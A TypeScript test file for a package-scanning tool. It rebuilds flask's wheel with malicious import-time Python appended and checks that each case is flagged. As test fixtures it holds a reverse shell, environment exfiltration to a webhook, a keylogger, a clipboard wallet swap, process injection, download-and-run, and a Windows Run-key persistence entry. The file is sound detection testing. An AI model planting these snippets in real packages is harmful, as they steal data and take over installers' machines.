/**
 * Hostile world: a PyPI wheel whose import-time code is the payload. `pypi:flask` as the PyPI
 * fixture world serves it, its wheel replaced by one holding flask's real `__init__.py` with a
 * payload appended (edits, in the shapes of the guarddog snippets in fixtures/import-code/), or
 * an `__init__.py` built to break the reader: a deflate bomb, a size the archive misstates,
 * padding past the classifier's call limit. None may end YES with the payload unread or unflagged,
 * and none may crash the run.
 */
import { readFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import { beforeAll, describe, it } from 'vitest';
import { MAX_CALLS } from '../../src/checks/lib/import-code.js';
import { centralDirectoryEntries, localDataStart, locateCentralDirectory } from '../../src/sources/pypi/zip-directory.js';
import { checkOf, parseReport } from '../cli/helpers.js';
import { startFixtureServer } from '../support/fixture-server.js';
import { servePypiFiles } from '../support/pypi-files.js';
import { makeZip, type ZipInput } from '../support/zip.js';
import { requireCli, runHostile } from './support/cli.js';
import { CLI_TEST_TIMEOUT_MS } from './support/expect.js';
import { noteCases } from './support/metrics.js';
import { flaskWorld } from './support/pypi-world.js';

beforeAll(() => requireCli());

const WHEEL_PATH = 'packages/7f/9c/34f6962f9b9e9c71f6e5ed806e0d0ff03c9d1b0b2340088a0cf4bce09b18/flask-3.1.3-py3-none-any.whl';

/** flask's recorded wheel as inputs for makeZip: every entry as published. */
function flaskEntries(): ZipInput[] {
  const real = readFileSync(new URL(`../../fixtures/http/pypi-files/${WHEEL_PATH}`, import.meta.url));
  const location = locateCentralDirectory(real, real.length);
  if (!location.ok) throw new Error(location.reason);
  const listed = centralDirectoryEntries(real.subarray(location.value.offset, location.value.offset + location.value.size), 1000);
  if (!listed.ok) throw new Error(listed.reason);
  return listed.value.map((entry) => {
    const local = real.subarray(entry.localHeaderOffset);
    const start = localDataStart(local);
    if (!start.ok) throw new Error(start.reason);
    const raw = local.subarray(start.value, start.value + entry.compressedSize);
    return { name: entry.name, data: entry.method === 8 ? inflateRawSync(raw) : raw };
  });
}

/** flask's wheel with `flask/__init__.py` replaced by `edit(realText)` (and its stated size, when given). */
function editedFlask(edit: (real: string) => string | Buffer, statedSize?: number): Buffer {
  return makeZip(
    flaskEntries().map((e) => {
      if (e.name !== 'flask/__init__.py') return e;
      return { name: e.name, data: edit(Buffer.from(e.data).toString('utf8')), ...(statedSize === undefined ? {} : { statedSize }) };
    }),
  );
}

const append = (payload: string) => (real: string) => `${real}\n${payload}\n`;

describe('a wheel whose import-time code is the payload', () => {
  it.concurrent.for([
    ['exec of a base64 payload', editedFlask(append('import base64 as _b\nexec(_b.b64decode("aW1wb3J0IG9z"))')), 'exec-decoded', 10],
    ['a downloaded script run', editedFlask(append('import urllib.request as _u\n_c = _u.urlopen("https://x.example/s").read()\nexec(_c)')), 'download-and-run', 10],
    ['a reverse shell', editedFlask(append('import socket, os, pty\n_s = socket.socket()\n_s.connect(("198.51.100.7", 4444))\nos.dup2(_s.fileno(), 0)\npty.spawn("/bin/sh")')), 'reverse-shell', 0],
    ['the environment posted to a webhook', editedFlask(append('import os, requests\nrequests.post("https://discord.com/api/webhooks/1/x", json=dict(os.environ))')), 'exfiltration', 0],
    ['a download saved through a helper\'s parameter and started', editedFlask(append('import os as _o\nfrom urllib.request import urlretrieve as _g\ndef _fetch(url, dest):\n    _g(url, dest)\n_p = _o.path.join(_o.path.expanduser("~"), ".cache", "u.bin")\n_fetch("https://x.example/u", _p)\n_o.startfile(_p) if _o.name == "nt" else _o.system(_p)')), 'download-and-run', 10],
    ['a helper returning the payload under an imported name', editedFlask(append('import requests as _r, subprocess as _s\ndef _stage(u): return _r.get(u).content\n_m = "wb"\nwith open("/tmp/.s", _m) as _f:\n    _f.write(_stage("https://x.example/s"))\n_s.Popen(["/tmp/.s"])')), 'download-and-run', 10],
    ['a stealer: a screenshot saved and posted to a chat webhook', editedFlask(append('import os as _o, tempfile as _t, requests as _r\nfrom PIL import ImageGrab as _g\n_i = _g.grab()\n_p = _o.path.join(_t.gettempdir(), "_s.png")\n_i.save(_p)\n_r.post("https://discord.com/api/webhooks/1/x", files={"f": open(_p, "rb")})')), 'exfiltration', 0],
    ['a stealer: keys logged and sent', editedFlask(append('import requests\nfrom pynput import keyboard\n_k = []\ndef _on(key):\n    _k.append(str(key))\n    requests.post("https://api.telegram.org/bot1:x/sendMessage", data={"text": "".join(_k)})\nkeyboard.Listener(on_press=_on).start()')), 'exfiltration', 0],
    ['a clipboard wallet swap', editedFlask(append('import re, pyperclip, threading\ndef _w():\n    while True:\n        _c = pyperclip.paste()\n        if re.match(r"^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$", _c):\n            pyperclip.copy("1BoatSLRHtKNngkdXEeobR76b53LETtpyT")\nthreading.Thread(target=_w, daemon=True).start()')), 'clipboard-swap', 0],
    ['process injection', editedFlask(append('import ctypes\n_k = ctypes.windll.kernel32\n_h = _k.OpenProcess(0x1F0FFF, False, 4242)\n_a = _k.VirtualAllocEx(_h, 0, 64, 0x3000, 0x40)\n_k.WriteProcessMemory(_h, _a, b"\\x90" * 64, 64, None)\n_k.CreateRemoteThread(_h, None, 0, _a, None, 0, None)')), 'process-injection', 10],
    ['a Run key written on import', editedFlask(append('import winreg, sys\n_key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(_key, "flask", 0, winreg.REG_SZ, sys.executable + " -m flask")')), 'persistence', 10],
    ['a payload beside imports named like an object\'s own properties', editedFlask(append('import requests\nimport constructor as _c\nfrom toString import get as _g\nexec(requests.get("https://x.example/s").text)')), 'download-and-run', 10],
    ['exec taken out of the builtins\' dictionary', editedFlask(append('vars(__builtins__)["exec"]("import os")')), 'obfuscation', 10],
    ['a payload after padding', editedFlask(append(`${'eval("1")\n'.repeat(MAX_CALLS + 1)}import base64\nexec(base64.b64decode("eA=="))`)), 'padded', 10],
  ] as const)('%s: flagged, the verdict held at CAUTION', { timeout: CLI_TEST_TIMEOUT_MS }, async ([, wheel, flag, score], { task, expect }) => {
    noteCases(task);
    const server = await startFixtureServer();
    try {
      flaskWorld(server);
      const files = servePypiFiles(server, { files: { [WHEEL_PATH]: wheel } });
      const run = await runHostile(['check', 'pypi:flask', '--json'], { server, env: files });
      const report = parseReport(run.stdout);
      expect(checkOf(report, 'import-time-code')).toMatchObject({ score, evidence: { flagged: ['flask/__init__.py'], flags: expect.arrayContaining([flag]) } });
      expect(report.verdict).toBe('CAUTION');
      expect(run.code).toBe(0);
    } finally {
      await server.close();
    }
  });

  it.concurrent.for([
    ['a deflate bomb', editedFlask(() => Buffer.alloc(30 * 1024 * 1024, 0x20), 2701), 'does not inflate within 256 KiB'],
    ['a size the archive misstates', editedFlask(append('import base64\nexec(base64.b64decode("eA=="))'), 2701), 'where the archive states 2701'],
  ] as const)('%s: unknown with the reason, never clean, no crash', { timeout: CLI_TEST_TIMEOUT_MS }, async ([, wheel, reason], { task, expect }) => {
    noteCases(task);
    const server = await startFixtureServer();
    try {
      flaskWorld(server);
      const files = servePypiFiles(server, { files: { [WHEEL_PATH]: wheel } });
      const run = await runHostile(['check', 'pypi:flask', '--json'], { server, env: files });
      expect(run.stderr).toBe('');
      const report = parseReport(run.stdout);
      expect(checkOf(report, 'import-time-code')).toMatchObject({ score: null, messageId: 'unread', evidence: { reason: expect.stringContaining(reason) } });
    } finally {
      await server.close();
    }
  });
});
